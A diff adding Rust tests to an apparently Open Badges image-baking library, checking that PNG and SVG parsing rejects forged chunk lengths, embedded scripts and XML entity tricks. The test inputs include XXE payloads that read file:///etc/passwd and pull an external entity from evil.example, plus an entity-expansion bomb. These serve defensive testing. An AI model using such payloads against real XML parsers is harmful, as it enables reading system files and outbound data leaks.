@@ -139,9 +139,64 @@ fn what_is_compressed_is_not_unfolded() {
     assert_eq!(chunk(b"openbadgecredentials\0\0\0\0\0{}"), Err(Trouble::Nothing));
 }
 
-/// A chunk as the standard has it, its checksum bit by bit.
+#[test]
+fn other_texts_of_a_picture_are_left_folded_and_lengths_are_not_believed() {
+    let with = |name: &[u8; 4], data: &[u8]| {
+        let mut out = PIXEL[..33].to_vec();
+        named_chunk(name, data, &mut out);
+        out.extend_from_slice(&PIXEL[33..]);
+        out
+    };
+    // Compressed text of other kinds may hold anything: nobody looks.
+    for (name, data) in [
+        (b"zTXt", &b"openbadgecredential\0\0x\xda\xff\xff"[..]),
+        (b"tEXt", b"openbadgecredential\0{}"),
+        (b"zTXt", b"Comment\0\0x\xda\x01\x02"),
+        (b"iCCP", b"profile\0\0x\xda\x01\x02"),
+    ] {
+        let image = with(name, data);
+        assert_eq!(read(&image), Err(Trouble::Nothing));
+        assert_eq!(read(&write(&image, JWT).unwrap()).as_deref(), Ok(JWT));
+    }
+    // A length that the file does not have takes no memory.
+    for length in [u32::MAX, 0x7fff_ffff, 0x0100_0000] {
+        let mut image = with(b"iTXt", b"openbadgecredential\0\0\0\0\0{}");
+        image[33..37].copy_from_slice(&length.to_be_bytes());
+        assert_eq!(read(&image), Err(Trouble::Damaged));
+    }
+    let many = with(b"zTXt", b"").repeat(2);
+    assert_eq!(read(&many), Err(Trouble::Damaged), "two pictures in one file");
+}
+
+#[test]
+fn scripts_and_entities_of_a_picture_do_nothing() {
+    let ns = "xmlns:openbadges=\"https://purl.imsglobal.org/ob/v3p0\"";
+    let script = format!(
+        "<svg {ns}><script><![CDATA[<openbadges:credential verify='{JWT}'/>]]></script></svg>"
+    );
+    assert_eq!(read(script.as_bytes()), Err(Trouble::Nothing));
+    let baked = String::from_utf8(write(script.as_bytes(), JWT).unwrap()).unwrap();
+    assert!(baked.contains(&script[script.find("<script>").unwrap()..]), "left as it was: {baked}");
+    for doctype in [
+        "<!DOCTYPE svg [<!ENTITY a \"aaaa\"><!ENTITY b \"&a;&a;\">]>",
+        "<!DOCTYPE svg [<!ENTITY a SYSTEM \"file:///etc/passwd\">]>",
+        "<!DOCTYPE svg [<!ENTITY % a SYSTEM \"https://evil.example/\"> %a;]>",
+    ] {
+        let image = format!("{doctype}<svg {ns}><openbadges:credential verify=\"&b;\"/></svg>");
+        assert_eq!(read(image.as_bytes()), Err(Trouble::Damaged));
+    }
+    // Entities are text: nothing is put in their place.
+    let image = format!("<svg {ns}><openbadges:credential verify=\"&#101;yJ.e30.c2ln\"/></svg>");
+    assert_eq!(read(image.as_bytes()), Err(Trouble::NotACredential));
+}
+
 fn png_chunk(data: &[u8], out: &mut Vec<u8>) {
-    let named = [b"iTXt", data].concat();
+    named_chunk(b"iTXt", data, out);
+}
+
+/// A chunk as the standard has it, its checksum bit by bit.
+fn named_chunk(name: &[u8; 4], data: &[u8], out: &mut Vec<u8>) {
+    let named = [&name[..], data].concat();
     let mut sum = u32::MAX;
     for byte in &named {
         sum ^= u32::from(*byte);
